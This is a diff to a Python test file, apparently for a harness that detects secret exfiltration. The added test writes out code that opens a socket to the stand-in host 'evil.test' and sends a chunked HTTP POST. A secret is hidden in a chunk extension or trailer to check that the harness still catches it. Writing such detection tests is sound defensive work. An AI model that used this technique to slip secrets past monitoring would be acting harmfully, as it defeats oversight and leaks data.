@@ -292,6 +292,22 @@ def test_a_body_that_was_searched_leaves_none(measure: Measure, body: str) -> No
     assert measure(*python(code)).secret_left is CheckState.UNMET
 
 
+@pytest.mark.parametrize(
+    "rest",
+    ["1;{secret}\\r\\na\\r\\n0\\r\\n\\r\\n", "1\\r\\na\\r\\n0\\r\\nx: {secret}\\r\\n\\r\\n"],
+    ids=["between", "after"],
+)
+def test_what_stands_between_the_chunks_of_a_body_and_after_them_is_searched(measure: Measure, rest: str) -> None:
+    head = "POST / HTTP/1.1\\r\\nhost: evil.test\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n"
+    code = (
+        "import socket; s = socket.create_connection(('evil.test', 80))\n"
+        f"s.sendall(b'{head}{rest.format(secret=SECRET)}'); s.recv(99)"
+    )
+    seen = measure(*python(code))
+    assert seen.on("request")
+    assert seen.secret_left is CheckState.MET
+
+
 GOODBYES = {
     "request": ("80", "GET / HTTP/1.0\\r\\n\\r\\n"),
     "asked-to-close": ("80", "GET / HTTP/1.1\\r\\nhost: evil.test\\r\\nconnection: close\\r\\n\\r\\n"),
